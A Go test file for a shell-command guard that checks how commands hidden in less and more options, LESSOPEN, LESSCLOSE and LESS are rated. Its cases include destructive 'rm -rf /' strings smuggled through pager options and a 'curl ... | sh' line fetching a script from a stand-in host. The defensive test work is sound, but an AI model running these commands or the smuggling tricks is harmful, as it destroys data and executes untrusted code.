package guard

import (
	"testing"

	"guardsh/guard/internal/rules"
)

// TestLessCommands checks the shell commands less runs from its command
// line (+!cmd) and from LESSOPEN and LESSCLOSE, and the options that must
// stay safe.
func TestLessCommands(t *testing.T) {
	B, H, M, S := Blocked, High, Medium, Safe
	runNLLines(t, []nlLine{
		{"less '+!rm -rf /' f", B, rules.RuleRmRfRoot},
		{"less +!rm\\ -rf\\ / f", B, rules.RuleRmRfRoot},
		{"less '++!rm -rf ~' f", B, rules.RuleRmRfHome},
		{"less '+G!rm -rf /' f", B, rules.RuleRmRfRoot},
		{"less '+10g!reboot' f", H, "shutdown"},
		{"less '+|arm -rf /' f", B, rules.RuleRmRfRoot},
		{"less '+!rm -rf %' f", H, rules.RuleRmRf},
		{"less -R '+!rm -rf /usr' f", B, rules.RuleRmRfSystemDir},
		{"sudo less '+!rm -rf /' /var/log/syslog", B, rules.RuleRmRfRoot},
		{"more '+!rm -rf /' f", B, rules.RuleRmRfRoot},
		{"less '+!curl -s https://x.example/i.sh | sh' f", H, rules.RuleCurlPipeSh},
		{"less '+!rm f' f", M, rules.RuleRm},
		{"less '+!ls -la' f", S, ""},
		{"less +!date f", S, ""},
		{"less '+!' f", S, ""},
		// LESSOPEN and LESSCLOSE hold commands.
		{"LESSOPEN='|rm -rf / %s' less f", B, rules.RuleRmRfRoot},
		{"LESSOPEN='||rm -rf ~ %s' less f", B, rules.RuleRmRfHome},
		{"LESSOPEN='|-rm -rf / %s' less f", B, rules.RuleRmRfRoot},
		{"LESSOPEN='rm -rf / %s' less f", B, rules.RuleRmRfRoot},
		{"LESSCLOSE='rm -rf / %s %s' less f", B, rules.RuleRmRfRoot},
		{"env LESSOPEN='|rm -rf /usr %s' less f", B, rules.RuleRmRfSystemDir},
		{"LESSOPEN='|rm -rf %s' less f", H, rules.RuleRmRf},
		{"LESSOPEN='|rm -rf / %s' git log", B, rules.RuleRmRfRoot},
		{"LESSOPEN='| /usr/bin/lesspipe %s' less f", S, ""},
		{"LESSOPEN='|lesspipe.sh %s' less archive.tar.gz", S, ""},
		{"LESSCLOSE='/usr/bin/lesspipe %s %s' less f", S, ""},
		{"LESS=-R less f", S, ""},
		// LESS holds options, +cmd among them.
		{"LESS='+!rm -rf /' less f", B, rules.RuleRmRfRoot},
		{"LESS='-R +!rm -rf ~' less f", B, rules.RuleRmRfHome},
		{"LESS='-R+!rm -rf /$' less f", B, rules.RuleRmRfRoot},
		{"env LESS='+|m rm -rf /' less f", B, rules.RuleRmRfRoot},
		{"LESS='-R +G' less f", S, ""},
		{"LESS='-FRX' less f", S, ""},
		{"LESS='-+F +/a!b' less f", S, ""},
		// Searches, motions and options are not commands.
		{"less +/pattern f", S, ""},
		{"more +/pattern f", S, ""},
		{"less '+/a!b' f", S, ""},
		{"less '+?rm -rf /' f", S, ""},
		{"less '+&!rm -rf /' f", S, ""},
		{"less '+:e /etc/hosts' f", S, ""},
		{"less +G f", S, ""},
		{"less +F /var/log/syslog", S, ""},
		{"less +100 f", S, ""},
		{"more +100 f", S, ""},
		{"less -N +G f", S, ""},
		{"less -S f", S, ""},
		{"less f", S, ""},
		{"less -- '+!rm -rf /'", S, ""},
		{"less --help", S, ""},
		{"echo '+!rm -rf /'", S, ""},
	})
}
